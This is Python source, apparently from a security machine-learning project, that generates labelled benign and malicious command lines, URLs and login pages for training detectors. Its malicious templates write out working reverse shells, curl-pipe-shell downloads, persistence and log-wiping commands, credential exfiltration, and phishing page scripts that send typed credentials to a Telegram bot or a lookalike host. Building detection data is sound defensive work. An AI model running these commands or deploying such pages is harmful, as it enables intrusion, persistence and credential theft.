            "New-Service -Name {rand} -BinaryPathName '{win_drop_exe}' -StartupType Automatic"),
    _family("inhibit-recovery", "windows", "vssadmin delete shadows /all /quiet", "wmic shadowcopy delete",
            "bcdedit /set {bcd_entry} recoveryenabled No", "wbadmin delete catalog -quiet",
            "vssadmin.exe Delete Shadows /All /Quiet & bcdedit /set {bcd_entry} bootstatuspolicy ignoreallfailures",
            "vssadmin delete shadows /all /quiet & start {win_drop_exe}"),
    _family("defense-evasion", "windows", "Set-MpPreference -DisableRealtimeMonitoring $true",
            "powershell -c \"Add-MpPreference -ExclusionPath '{win_drop_dir}'\"",
            "netsh advfirewall set allprofiles state off", "wevtutil cl Security", "sc stop WinDefend",
            "Set-MpPreference -DisableRealtimeMonitoring $true; Start-Process {win_drop_exe}"),
    # Discovery is only malicious in context: the same commands run in benign admin sessions.
    _family("discovery", "windows", "whoami /all", 'net group "Domain Admins" /domain',
            "nltest /domain_trusts /all_trusts", "net localgroup administrators", "quser",
            'cmd.exe /c "whoami & hostname & ipconfig /all & net user"', r"whoami /all > {win_drop_dir}\{rand}.txt",
            weight=0.3),
    _family("lateral-movement", "windows", r"psexec.exe \\{host} -u {corp_short}\{user} -p {password} -s cmd.exe",
            'wmic /node:{ip_internal} process call create "cmd.exe /c {win_drop_exe}"',
            "Invoke-Command -ComputerName {host} -ScriptBlock { IEX (New-Object Net.WebClient).DownloadString("
            "'{payload_url_ps1}') }", 'winrs -r:{host} "{win_drop_exe}"'),
    _family("account-creation", "windows", "net user {mal_user} {password} /add",
            "net localgroup administrators {mal_user} /add", "net user {mal_user} {password} /add /domain",
            "net user {mal_user} {password} /add & net localgroup administrators {mal_user} /add"),
    _family("reverse-shell-powershell", "windows",
            "powershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('{ip_public}',{port});"
            "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0}\""),
    _family("reverse-shell-bash", "linux", "bash -i >& /dev/tcp/{ip_public}/{port} 0>&1",
            "bash -c 'bash -i >& /dev/tcp/{ip_public}/{port} 0>&1'", "sh -i >& /dev/udp/{ip_public}/{port} 0>&1",
            "sh -c 'exec 196<>/dev/tcp/{ip_public}/{port}; sh <&196 >&196 2>&196'"),
    _family("reverse-shell-nc", "linux", "nc -e /bin/sh {ip_public} {port}",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip_public} {port} >/tmp/f",
            "ncat {ip_public} {port} -e /bin/bash",
            "socat tcp-connect:{ip_public}:{port} exec:/bin/sh,pty,stderr,setsid"),
    _family("reverse-shell-script", "linux",
            "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
            's.connect(("{ip_public}",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
            'import pty;pty.spawn("/bin/sh")\'',
            "perl -e 'use Socket;$i=\"{ip_public}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
            "connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\");'",
            "php -r '$sock=fsockopen(\"{ip_public}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    _family("curl-pipe-shell", "linux", "curl -fsSL {payload_url_sh} | sh", "wget -qO- {payload_url_sh} | bash",
            "curl -s {payload_url_sh} | bash -s", "(curl -fsSL {payload_url_sh}||wget -q -O- {payload_url_sh})|sh",
            "wget -P /tmp {payload_url_bin}; chmod +x /tmp/{bin_name}; /tmp/{bin_name}"),
    _family("base64-shell", "linux", "echo {b64_sh} | base64 -d | bash", "echo '{b64_sh}' | base64 --decode | sh",
            'bash -c "$(echo {b64_sh} | base64 -d)"',
            "python3 -c \"import base64,os;os.system(base64.b64decode('{b64_sh}'))\"",
            "echo {b64_sh} | base64 -d > /tmp/.{tmp_name}; sh /tmp/.{tmp_name}"),
    _family("cron-persistence", "linux",
            '(crontab -l 2>/dev/null; echo "*/{n} * * * * curl -fsSL {payload_url_sh} | sh") | crontab -',
            "echo '@reboot /tmp/.{rand}' >> /var/spool/cron/crontabs/root",
            "echo \"* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/{ip_public}/{port} 0>&1'\" > /etc/cron.d/{rand}"),
    _family("ssh-key-persistence", "linux", "echo '{ssh_key}' >> /root/.ssh/authorized_keys",
            "mkdir -p ~/.ssh && echo '{ssh_key}' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys",
            "curl -fsSL {payload_url_sh} -o /tmp/.{tmp_name} && cat /tmp/.{tmp_name} >> /root/.ssh/authorized_keys"),
    _family("linux-credential-access", "linux", "cat /etc/shadow", "unshadow /etc/passwd /etc/shadow > /tmp/{rand}.txt",
            "grep -r 'password' /home/*/.bash_history", "find / -name id_rsa 2>/dev/null",
            "cat ~/.aws/credentials | curl -X POST -d @- http://{ip_public}:{web_port}/"),
    _family("cryptominer", "linux", "./xmrig -o {pool}:{pool_port} -u {wallet} -p x -k --donate-level 1",
            "nohup /tmp/.{tmp_name}/kworker -c /tmp/.{tmp_name}/config.json >/dev/null 2>&1 &",
            "chmod +x /tmp/.{tmp_name} && /tmp/.{tmp_name} -o stratum+tcp://{pool}:{pool_port} -u {wallet}"),
    _family("log-tampering", "linux", "history -c && rm -f ~/.bash_history", "unset HISTFILE; export HISTSIZE=0",
            "echo > /var/log/auth.log", "setenforce 0; systemctl stop firewalld",
            "unset HISTFILE; curl -fsSL {payload_url_sh} | sh", "shred -u /var/log/auth.log /tmp/.{rand}"),
    _family("exfiltration", "linux", "tar czf - /home/{user} | nc {ip_public} {port}",
            "curl -F 'file=@/etc/passwd' http://{ip_public}:{web_port}/upload",
            "rclone copy /srv/{repo} mega:{rand} --transfers 16", "scp -r /var/www {mal_user}@{ip_public}:/tmp/"),
    _family("macos-persistence", "macos", "osascript -e 'do shell script \"curl -s {payload_url_sh} | sh\"'",
            "launchctl load -w ~/Library/LaunchAgents/com.{rand}.agent.plist",
            "curl -so /tmp/.{tmp_name} {payload_url_bin} && xattr -d com.apple.quarantine /tmp/.{tmp_name}"),
)

SENSORS = {"windows": ("sysmon", "edr"), "linux": ("auditd", "edr"), "macos": ("edr",)}

# How a command was launched: (prefix, suffix) around it. Attackers and admins share some launchers.
LAUNCHERS = {
    ("benign", "windows"): (("cmd.exe /c ", ""), ("cmd /c ", r" > C:\Logs\{script}.log"),
                            ("", r" >> \\{fileserver}\{share}\logs\{host}.txt"),
                            (r'runas /user:{corp_short}\{user} "', '"'), ("", " && echo done")),
    ("malicious", "windows"): (("cmd.exe /c ", ""), ("cmd /q /c ", r" > {win_drop_dir}\{rand}.log 2>&1"),
                               (r'C:\Windows\System32\cmd.exe /c "', '"'), ("", r" & del /f /q {win_drop_exe}"),
                               ("", r" & start /b {win_drop_exe}"), ("", " && ping -n 3 127.0.0.1 > nul"),
                               ("", " & powershell -w hidden -enc {b64_ps}"),
                               ("", r" & timeout /t 3 & start {win_drop_exe}")),
    ("benign", "linux"): (("sudo ", ""), ("", " | tee {fname}.log"), ("time ", ""), ('bash -c "', '"'),
                          ("", " > /tmp/{fname}.out 2>&1"), ("cd {lin_dir} && ", ""), ("", " && echo done")),
    ("malicious", "linux"): (("nohup sh -c '", "' >/dev/null 2>&1 &"), ("sudo ", ""), ("", "; rm -f /tmp/.{rand}"),
                             ("cd /tmp && ", ""), ("", " 2>/dev/null &"), ('sh -c "', '"'),
                             ("", " && chmod +x /tmp/.{tmp_name} && /tmp/.{tmp_name}"),
                             ("", "; curl -fsSL {payload_url_sh} | sh"),
                             ("cd /dev/shm; ", "")),
}
LAUNCHED_SHARE = {"benign": 0.3, "malicious": 0.6}


def _cmdline_row(rng: random.Random, label: str) -> dict[str, str]:
    family = _weighted(rng, BENIGN_CMDLINES if label == "benign" else MALICIOUS_CMDLINES)
    memo: dict[str, str] = {}
    text = _fill(rng.choice(family.templates), rng, memo)
    group = _binary(text)
    if rng.random() < LAUNCHED_SHARE[label]:
        prefix, suffix = rng.choice(LAUNCHERS[label, "windows" if family.platform == "windows" else "linux"])
        text = _fill(prefix, rng, memo) + text + _fill(suffix, rng, memo)
    return {"text": text, LABEL: label, GROUP: group, SOURCE: rng.choice(SENSORS[family.platform]),
            "platform": family.platform, "family": family.name}


BINARY_ALIASES = {"gci": "get-childitem", "pip3": "pip", "apt-get": "apt", "iwr": "invoke-webrequest",
                  "pwsh": "powershell", "npx": "npm", "python": "python3"}


def _binary(command: str) -> str:
    """The program a command line runs: its first word without sudo, folders and .exe, aliases resolved."""
    words = command.lstrip("(").split()
    name = words[1] if words[0] == "sudo" and len(words) > 1 else words[0]
    name = name.replace("\\", "/").rsplit("/", 1)[-1].lower().removesuffix(".exe")
    return BINARY_ALIASES.get(name, name)


def _weighted(rng: random.Random, families: tuple[Family, ...]) -> Family:
    return rng.choices(families, weights=[f.weight for f in families])[0]


# ---------------------------------------------------------------------------------------------------
# URLs. The group is the registered domain (or the IP), computed from the generated URL.

WORDS.update({
    "scheme": ("https", "https", "http"),
    "gh_path": ("README.md", "src/{fname}.py", "docs/{slug}.md", "cmd/{tool}/main.go", ".github/workflows/ci.yml"),
    "q_slug": ("how-to-{slug}-in-python", "why-does-{tool}-fail-with-{slug}", "{slug}-best-practices",
               "difference-between-{pip_pkg}-and-{pip_pkg}"),
    "wiki_title": ("Transport_Layer_Security", "Public_key_infrastructure", "Kubernetes",
                   "Python_(programming_language)",
                   "Domain_Name_System", "Phishing", "Lisbon", "Photosynthesis", "Ada_Lovelace", "Byzantine_Empire"),
    "docs_url": ("https://docs.python.org/3/library/{py_module}.html", "https://developer.mozilla.org/en-US/docs/Web/{mdn}",
                 "https://learn.microsoft.com/en-us/{ms_docs}", "https://kubernetes.io/docs/concepts/{k8s}/",
                 "https://docs.docker.com/engine/{docker}/", "https://pypi.org/project/{pip_pkg}/",
                 "https://www.npmjs.com/package/{npm_pkg}", "https://pkg.go.dev/github.com/{org}/{tool}"),
    "py_module": ("asyncio", "pathlib", "json", "subprocess", "logging", "datetime", "itertools", "re"),
    "mdn": ("HTTP/Headers/Content-Security-Policy", "JavaScript/Reference/Global_Objects/Promise", "CSS/grid",
            "API/Fetch_API", "HTML/Element/form"),
    "ms_docs": ("powershell/module/microsoft.powershell.management/get-childitem",
                "windows-server/administration/windows-commands/robocopy",
                "azure/storage/blobs/storage-blobs-introduction",
                "dotnet/csharp/tour-of-csharp/"),
    "k8s": ("workloads/pods", "services-networking/ingress", "configuration/secret", "storage/volumes"),
    "docker": ("install/ubuntu", "reference/commandline/run", "network", "storage/volumes"),
    "news_site": ("nytimes.com", "theguardian.com", "bbc.co.uk", "reuters.com", "arstechnica.com", "theverge.com",
                  "northwindherald.com", "lemonde.fr"),
    "section": ("technology", "world", "business", "science", "sport", "culture", "security"),
    "news_slug": ("{headline_word}-{headline_word}-{headline_word}-{headline_word}",),
    "headline_word": ("council", "approves", "new", "budget", "storm", "hits", "coast", "researchers", "find", "rare",
                      "species", "market", "rally", "continues", "startup", "raises", "funding", "election", "results",
                      "patch", "fixes", "vulnerability", "team", "wins", "final"),
    "query": ("{tool}+install+ubuntu", "weather+{news_city}", "{pip_pkg}+dataframe+merge",
              "cheap+flights+to+{news_city}",
              "how+to+reset+router", "{app}+download"),
    "news_city": ("lisbon", "berlin", "toronto", "osaka", "nairobi", "austin"),
    "subreddit": ("sysadmin", "programming", "python", "homelab", "netsec", "cooking"),
    "tenant": ("contoso", "fabrikam", "northwind", "tailspintoys", "woodgrove"),
    "club": ("{news_city}-chess-club", "{news_city}-runners", "pta-{news_city}", "{rand}-family-reunion"),
    "os_arch": ("linux-amd64", "darwin-arm64", "windows-amd64"),
    "archive": ("tar.gz", "zip"),
    "font": ("Inter", "Roboto", "Open+Sans", "Lato"),
    "brand": ("paypal", "microsoft", "office365", "outlook", "apple", "icloud", "netflix", "amazon", "chase",
              "wellsfargo", "bankofamerica", "dhl", "docusign", "dropbox", "linkedin", "instagram", "facebook",
              "adobe", "coinbase", "metamask", "usps", "fedex"),
    "brand_typo": ("paypa1", "rnicrosoft", "micr0soft", "app1e", "arnazon", "netfl1x", "linkedln", "faceb00k",
                   "dropb0x", "docusiqn", "wellsfarqo", "coinbasse"),
    "lure_word": ("secure", "verify", "login", "account", "update", "support", "auth", "signin", "billing",
                  "service", "confirm", "recovery", "unlock", "alert", "help"),
    "any_tld": ("com", "net", "org", "xyz", "top", "info", "online", "app", "site", "live"),
    "lookalike": ("{brand}-{lure_word}.{bad_tld}", "{lure_word}-{brand}.{any_tld}", "{brand_typo}.{any_tld}",
                  "{brand}.com.{lure_word}-{rand}.{bad_tld}", "{brand}{lure_word}{n}.com",
                  "secure{n}-{brand}.{bad_tld}",
                  "{lure_word}.{brand}-{lure_word}.{any_tld}"),
    "phish_path": ("/signin/", "/login.php", "/{brand}/login/index.html", "/secure/{lure_word}/?session={hex32}",
                   "/wp-content/plugins/{rand}/{brand}/index.php", "/account/verify?id={hex8}&email={user}%40gmail.com",
                   "/owa/auth/logon.aspx?replaceCurrent=1", "/{rand}/auth.html", "/update-billing/", "/",
                   "/index.html"),
    "compromised": ("{shop_word}{shop_word}.com.br", "{shop_word}-{shop_word}.co.uk", "{shop_word}{n}.net",
                    "blog.{shop_word}{shop_word}.com"),
    "shop_word": ("garden", "studio", "dental", "auto", "bakery", "photo", "travel", "music", "yoga", "coffee",
                  "design", "farm", "legal", "pets"),
    "mozi_port": ("{n4}", "{n4}", "80"),
    "bin_arch": ("x86", "mips", "mpsl", "arm", "arm7", "sh4", "ppc"),
})

BENIGN_URLS = (
    "https://github.com/{org}/{repo}", "https://github.com/{org}/{repo}/blob/{branch}/{gh_path}",
    "https://github.com/{org}/{repo}/issues/{n4}", "https://github.com/{org}/{repo}/pull/{n4}",
    "https://github.com/{org}/{tool}/releases/download/v{ver}/{tool}-{os_arch}.{archive}",
    "https://stackoverflow.com/questions/{n8}/{q_slug}", "https://en.wikipedia.org/wiki/{wiki_title}",
    "{docs_url}", "{docs_url}", "{docs_url}#{slug}",
    "https://www.{news_site}/{year}/{mm}/{dd}/{section}/{news_slug}.html", "https://{news_site}/{section}/{news_slug}-{n8}",
    "https://www.amazon.com/dp/{asin}", "https://www.amazon.com/s?k={query}", "https://www.ebay.com/itm/{n12}",
    "https://www.youtube.com/watch?v={yt_id}", "https://www.reddit.com/r/{subreddit}/comments/{rand}/{q_slug}/",
    "https://www.linkedin.com/in/{user}-{rand}/", "https://www.google.com/search?q={query}",
    "https://duckduckgo.com/?q={query}&ia=web", "https://www.bing.com/search?q={query}",
    # legitimate sign-in pages: the hard negatives of phishing
    "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id={guid}&response_type=code&scope=openid",
    "https://accounts.google.com/v3/signin/identifier?continue=https%3A%2F%2Fmail.google.com%2Fmail%2F&service=mail",
    "https://www.paypal.com/signin?returnUri=%2Fmyaccount%2Fsummary", "https://github.com/login?return_to=%2F{org}",
    "https://signin.aws.amazon.com/signin?redirect_uri=https%3A%2F%2Fconsole.aws.amazon.com%2F",
    "https://www.dropbox.com/login", "https://appleid.apple.com/sign-in", "https://{tenant}.okta.com/login/login.htm",
    "https://{tenant}.atlassian.net/login?continue=%2Fwiki%2Fhome",
    # legitimate downloads of executables
    "https://dl.google.com/chrome/install/ChromeStandaloneSetup64.exe",
    "https://download.mozilla.org/?product=firefox-latest-ssl&os=win64&lang=en-US",
    "https://zoom.us/client/latest/ZoomInstallerFull.msi", "https://downloads.{vendor}.com/{app}/{ver}/{app}Setup-{ver}.exe",
    # internal services on raw IPs and plain http
    "http://{ip_internal}:{svc_port}/api/v1/health", "http://{host}.{corp_domain}:8080/job/{repo}/lastBuild/console",
    "http://{ip_internal}/status.html", "https://{corp_site}/{section}/{slug}",
    # free hosting and shorteners used for ordinary things
    "https://{user}.github.io/{repo}/", "https://sites.google.com/view/{club}/home", "https://{repo}.netlify.app/docs/",
    "https://{repo}.pages.dev/", "https://raw.githubusercontent.com/{org}/{repo}/{branch}/install.sh",
    "https://storage.googleapis.com/{org}-public/{tool}/{ver}/{tool}-{os_arch}.tar.gz", "https://bit.ly/{short}",
    "https://t.co/{short}", "https://cdn.jsdelivr.net/npm/{npm_pkg}@{ver}/dist/{npm_pkg}.min.js",
    "https://fonts.googleapis.com/css2?family={font}&display=swap",
)

MALICIOUS_URLS = (
    # phishing lures on lookalike domains
    "{scheme}://{lookalike}{phish_path}", "{scheme}://{lookalike}{phish_path}", "{scheme}://{lookalike}{phish_path}",
    "https://www.{lookalike}{phish_path}",
    # phishing on free hosting
    "https://{brand}-{lure_word}-{rand}.000webhostapp.com{phish_path}", "https://{rand}.web.app/{brand}/",
    "https://{brand}-{lure_word}.firebaseapp.com/", "https://sites.google.com/view/{brand}-{lure_word}{n}/",
    "https://{rand}.weebly.com/", "https://{brand}{lure_word}.wixsite.com/{rand}",
    "https://ipfs.io/ipfs/{cid}?filename={brand}.html", "https://{rand}.workers.dev/{brand}/login",
    "https://{rand}.ngrok-free.app{phish_path}", "https://storage.googleapis.com/{rand}/{brand}-{lure_word}.html",
    "https://{rand}.blob.core.windows.net/$web/{brand}/index.html",
    # payloads on raw IPs
    "http://{ip_public}:{web_port}/i", "http://{ip_public}:{mozi_port}/Mozi.m", "http://{ip_public}:{mozi_port}/Mozi.a",
    "http://{ip_public}/bins/{bin_arch}", "http://{ip_public}/{sh_name}", "http://{ip_public}/{drop}.exe",
    "http://{ip_public}:{web_port}/{rand}/{drop}.exe",
    # payloads on throwaway, dynamic-DNS, compromised and file-sharing hosts
    "http://{bad_domain}/{bad_path}/{drop}.exe", "http://{bad_domain}/{drop}.zip",
    "https://{compromised}/wp-content/uploads/{year}/{mm}/{drop}.zip", "http://{compromised}/wp-includes/{rand}.php?{rand}={hex8}",
    "https://{bad_domain}/{rand}/invoice_{n3}.js", "http://{rand}.duckdns.org:{web_port}/{drop}.exe",
    "https://raw.githubusercontent.com/{rand}/{rand}/main/{drop}.ps1",
    "https://cdn.discordapp.com/attachments/{n18}/{n18}/{drop}.exe", "https://pastebin.com/raw/{paste_id}",
)

# Suffixes under which every subdomain is its own registered domain (a small part of the public suffix list).
SHARED_SUFFIXES = frozenset({
    "co.uk", "com.br", "com.au", "co.jp", "github.io", "web.app", "firebaseapp.com", "netlify.app", "pages.dev",
    "workers.dev", "000webhostapp.com", "weebly.com", "wixsite.com", "duckdns.org", "ngrok-free.app",
    "blob.core.windows.net", "herokuapp.com", "blogspot.com",
})


def registered_domain(host: str) -> str:
    """The domain a registrant controls (example.co.uk, user.github.io), or the host itself for an IP."""
    labels = host.lower().split(".")
    if all(label.isdigit() for label in labels):
        return host
    for suffix_length in (4, 3, 2):
        if ".".join(labels[-suffix_length:]) in SHARED_SUFFIXES and len(labels) > suffix_length:
            return ".".join(labels[-suffix_length - 1:])
    return ".".join(labels[-2:])


def _url_row(rng: random.Random, label: str) -> dict[str, str]:
    url = _fill(rng.choice(BENIGN_URLS if label == "benign" else MALICIOUS_URLS), rng)
    mail_share = 0.25 if label == "benign" else 0.6
    return {"text": url, LABEL: label, GROUP: registered_domain(urlsplit(url).hostname or url),
            SOURCE: "mail-gateway" if rng.random() < mail_share else "web-proxy"}


# ---------------------------------------------------------------------------------------------------
# HTML pages. Groups are page families: a site for articles, the brand for login pages (real or fake).

@dataclass(frozen=True)
class Brand:
    key: str
    name: str
    domain: str


BRANDS = tuple(Brand(*b) for b in (
    ("paypal", "PayPal", "paypal.com"), ("microsoft", "Microsoft", "login.microsoftonline.com"),
    ("outlook", "Outlook", "outlook.live.com"), ("apple", "Apple", "appleid.apple.com"),
    ("netflix", "Netflix", "netflix.com"), ("amazon", "Amazon", "amazon.com"), ("chase", "Chase", "chase.com"),
    ("wellsfargo", "Wells Fargo", "wellsfargo.com"), ("dhl", "DHL", "dhl.com"),
    ("docusign", "DocuSign", "docusign.net"), ("dropbox", "Dropbox", "dropbox.com"),
    ("linkedin", "LinkedIn", "linkedin.com"), ("instagram", "Instagram", "instagram.com"),
    ("facebook", "Facebook", "facebook.com"), ("adobe", "Adobe", "adobe.com"),
    ("coinbase", "Coinbase", "coinbase.com"), ("usps", "USPS", "usps.com"), ("github", "GitHub", "github.com"),
))
ORDINARY_SITES = tuple(Brand(*b) for b in (
    ("woodgrove-bank", "Woodgrove Bank", "woodgrovebank.com"),
    ("contoso-intranet", "Contoso Intranet", "intranet.contoso.com"),
    ("tailspin-airlines", "Tailspin Airlines", "tailspintoys.com"),
    ("northwind-shop", "Northwind Traders", "northwindtraders.com"),
    ("fabrikam-hr", "Fabrikam HR Portal", "hr.fabrikam.com"), ("litware-mail", "Litware Mail", "mail.litwareinc.com"),
))
NEWS_SITES = tuple(Brand(*b) for b in (
    ("northwind-herald", "Northwind Herald", "northwindherald.com"),
    ("daily-byte", "The Daily Byte", "dailybyte.net"),
    ("contoso-blog", "Contoso Engineering Blog", "blog.contoso.com"),
    ("tailspin-travel", "Tailspin Travel Notes", "tailspintravel.com"),
    ("woodgrove-weekly", "Woodgrove Finance Weekly", "woodgroveweekly.com"),
    ("litware-science", "Litware Science", "litwarescience.org"),
    ("proseware-health", "Proseware Health", "prosewarehealth.com"),
    ("fourth-coffee", "Fourth Coffee Kitchen", "fourthcoffee.com"),
    ("adatum-security", "Adatum Security Blog", "adatum.com"),
    ("wingtip-sports", "Wingtip Sports", "wingtipsports.com"),
    ("lucerne-books", "Lucerne Publishing", "lucernepublishing.com"),
    ("margies-travel", "Margie's Travel", "margiestravel.com"),
))

SENTENCE_PARTS = {
    "subject": ("The city council", "A new study", "Our team", "The research group", "Local farmers", "The company",
                "Engineers at the plant", "The committee", "Volunteers", "The museum", "Analysts", "The school board"),
    "verb": ("announced", "reviewed", "published", "delayed", "expanded", "questioned", "celebrated", "tested",
             "measured", "proposed", "rejected", "described"),
    "object": ("a plan to renovate the old harbour", "the results of a two-year trial", "changes to the bus network",
               "a faster way to index large archives", "the budget for next spring", "a record harvest",
               "new guidelines for remote work", "the migration of its servers", "an exhibition on early maps",
               "a proposal for longer opening hours", "the impact of the heat wave", "its first open-source release"),
    "tail": ("on Tuesday", "after months of debate", "despite the rain", "according to officials",
             "in a statement", "earlier this year", "with mixed reactions", "for the first time"),
}
URGENT_LINES = (
    "Your account has been temporarily limited. Confirm your information to restore access.",
    "We detected an unusual sign-in attempt. Verify your identity to continue.",
    "Your mailbox is almost full. Sign in to upgrade your storage now.",
    "You have received a secure document. Sign in with your email to view it.",
    "Your payment could not be processed. Update your billing details within 24 hours.",
    "Your parcel is on hold due to an unpaid shipping fee.",
)
# Real sites say similar things on their own verification pages.
BENIGN_NOTICES = (
    "For your security, we sent a verification code to your phone.",
    "Signing in from a new device? We will ask for a code.",
    "Session expired. Please sign in again.", "We have updated our privacy policy.",
)


def _sentence(rng: random.Random) -> str:
    return " ".join(rng.choice(SENTENCE_PARTS[p]) for p in ("subject", "verb", "object", "tail")) + "."


def _page(rng: random.Random, title: str, head: str, body: str) -> str:
    lang = rng.choice(("en", "en", "en-US", "en-GB"))
    return (f'<!DOCTYPE html><html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>'
            f'<meta name="viewport" content="width=device-width, initial-scale=1">{head}</head>'
            f"<body>{body}</body></html>")


def _footer(rng: random.Random, name: str, real_links: bool) -> str:
    href = (lambda path: path) if real_links else (lambda path: "#")
    links = "".join(f'<a href="{href("/" + p.lower())}">{p}</a> ' for p in ("Privacy", "Terms", "Help", "Cookies"))
    return f"<footer>{links}<span>&copy; {rng.randint(2019, 2025)} {name}</span></footer>"


@dataclass(frozen=True)
class LoginStyle:
    """How likely each trait of a login page is. Kits clone real pages, so the traits overlap."""

    actions: tuple[str, ...]
    csrf: float
    forgot: tuple[str | None, ...]  # href of the "Forgot password?" link (None: no link)
    hotlinked_assets: float  # assets loaded from the brand's real domain
    notices: tuple[str, ...]
    notice: float
    real_footer_links: float
    signup: float
    card_fields: float
    prefilled_email: float
    scripts: tuple[str, ...]


SITE_STYLE = LoginStyle(
    actions=("/session", "/login", "https://{domain}/login", "https://auth.{domain}/authorize",
             "/oauth2/v2.0/authorize", "login.php"),
    csrf=0.8, forgot=("/password/reset",) * 8 + ("#", None), hotlinked_assets=0.3, notices=BENIGN_NOTICES,
    notice=0.25, real_footer_links=0.9, signup=0.8, card_fields=0.0, prefilled_email=0.05,
    scripts=('<script src="/assets/app.{hex8}.js" defer></script>',) * 4 + ("",))
KIT_STYLE = LoginStyle(
    actions=("next.php", "login.php", "post.php", "https://{lookalike}/gate.php", "mailer/send.php",
             "https://{domain}.{rand}.{bad_tld}/auth", "", "/login"),
    csrf=0.35, forgot=("#", "#", "/password/reset", None), hotlinked_assets=0.5, notices=URGENT_LINES + BENIGN_NOTICES,
    notice=0.55, real_footer_links=0.4, signup=0.4, card_fields=0.15, prefilled_email=0.3,
    scripts=("", '<script src="/assets/app.{hex8}.js" defer></script>',
             "<script>var _0x{hex8}=atob('{b64_key}');</script>",
             "<script>document.write(unescape('%3C%64%69%76%3E{hex8}'));</script>",
             "<script>fetch('https://api.telegram.org/bot{tg_token}/sendMessage?chat_id={n8}&text='"
             "+encodeURIComponent(document.getElementById('email').value));</script>",
             "<script>$.post('https://{lookalike}/{rand}.php', $('#login-form').serialize());</script>"))


def _login_page(rng: random.Random, site: Brand, style: LoginStyle) -> str:
    def chance(p: float) -> bool:
        return rng.random() < p

    asset_host = f"https://{site.domain}" if chance(style.hotlinked_assets) else ""
    fields = ""
    if chance(style.card_fields):
        fields = ('<input type="text" name="cc" placeholder="Card number"><input type="text" name="exp" '
                  'placeholder="MM/YY"><input type="text" name="cvv" placeholder="CVV">')
    email_value = _fill(' value="{user}@{tenant}.com"', rng) if chance(style.prefilled_email) else ""
    csrf = _fill('<input type="hidden" name="csrf_token" value="{hex32}">', rng) if chance(style.csrf) else ""
    forgot = rng.choice(style.forgot)
    action = _fill(rng.choice(style.actions).replace("{domain}", site.domain), rng)
    form = (f'<form method="post" action="{action}" '
            f'id="login-form">{csrf}<label for="email">Email or phone</label><input type="email" id="email" '
            f'name="email"{email_value} autocomplete="username" required><label for="password">Password</label>'
            '<input type="password" id="password" name="password" autocomplete="current-password" required>'
            + fields
            + ('<label><input type="checkbox" name="remember"> Keep me signed in</label>' if chance(0.5) else "")
            + '<button type="submit">Sign in</button></form>'
            + (f'<p><a href="{forgot}">Forgot password?</a></p>' if forgot is not None else ""))
    notice = f'<p class="notice">{rng.choice(style.notices)}</p>' if chance(style.notice) else ""
    signup = f'<p>New to {site.name}? <a href="/signup">Create an account</a></p>' if chance(style.signup) else ""
    head = f'<link rel="stylesheet" href="{asset_host}/assets/app.{_fill("{hex8}", rng)}.css">'
    body = (f'<header><img src="{asset_host}/assets/logo.svg" alt="{site.name}"></header><main><h1>Sign in</h1>'
            f"{notice}{form}{signup}</main>{_footer(rng, site.name, real_links=chance(style.real_footer_links))}"
            f"{_fill(rng.choice(style.scripts), rng)}")
    title = rng.choice((f"Sign in to {site.name}", f"{site.name} - Sign In", f"Log in | {site.name}",
                        f"{site.name} | Account Verification", "Sign in to your account"))
    return _page(rng, title, head, body)


def _article_page(rng: random.Random, site: Brand) -> str:
    headline = _sentence(rng).rstrip(".")
    paragraphs = "".join(f"<p>{' '.join(_sentence(rng) for _ in range(rng.randint(2, 4)))}</p>"
                         for _ in range(rng.randint(3, 7)))
    nav = "".join(f'<a href="/{s}">{s.title()}</a>' for s in rng.sample(WORDS["section"], 4))
    newsletter = ('<form action="/newsletter" method="post"><input type="email" name="email" placeholder="Your email">'
                  "<button>Subscribe</button></form>") if rng.random() < 0.4 else ""
    body = (f'<header><a href="/" class="logo">{site.name}</a><nav>{nav}</nav></header><main><article>'
            f"<h1>{headline}</h1><p class=\"byline\">By {rng.choice(WORDS['user']).title()} &middot; "
            f"{_fill('{year}-{mm}-{dd}', rng)}</p>{paragraphs}</article>{newsletter}</main>"
            f"{_footer(rng, site.name, real_links=True)}")
    head = f'<link rel="stylesheet" href="/static/css/site.{_fill("{hex8}", rng)}.css">'
    return _page(rng, f"{headline} | {site.name}", head, body)


def _html_row(rng: random.Random, label: str) -> dict[str, str]:
    if label == "phishing":
        brand = rng.choice(BRANDS)
        return {"text": _login_page(rng, brand, KIT_STYLE), LABEL: label, GROUP: brand.key,
                SOURCE: "mail-gateway" if rng.random() < 0.7 else "web-crawler"}
    if rng.random() < 0.55:
        site = rng.choice(NEWS_SITES)
        page = _article_page(rng, site)
    else:
        site = rng.choice(BRANDS + ORDINARY_SITES)
        page = _login_page(rng, site, SITE_STYLE)
    source = "mail-gateway" if rng.random() < 0.2 else "web-crawler"
    return {"text": page, LABEL: label, GROUP: site.key, SOURCE: source}


ROW_MAKERS: dict[str, Callable[[random.Random, str], dict[str, str]]] = {
    "cmdline": _cmdline_row, "url": _url_row, "html": _html_row}


# ---------------------------------------------------------------------------------------------------
# Parts and files.

def write_demo_data(out_dir: str | Path, seed: int = 0, scale: float = 1.0) -> dict[str, list[Path]]:
    """Writes the demo data set under out_dir and returns the shard paths, keyed "<artifact>/<part>".

    The same seed and scale write the same rows; out_dir/README.txt says what the data is.
    """
    if not scale > 0:
        raise SmallsecError(f"demo data scale must be positive, got {scale}")
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    written: dict[str, list[Path]] = {}
    for artifact in ARTIFACTS:
        rng = random.Random(f"smallsec-demo:{seed}:{artifact}")
        parts = _make_parts(artifact, rng, seed, scale)
        for part, table in parts.items():
            layout = LAYOUT[artifact][part]
            written[f"{artifact}/{part}"] = _write_shards(table, out / artifact / part, layout.fmt, layout.shards)
    (out / "README.txt").write_text(README.format(seed=seed, scale=scale, classes=CLASSES, flip_rates=FLIP_RATES))
    return written


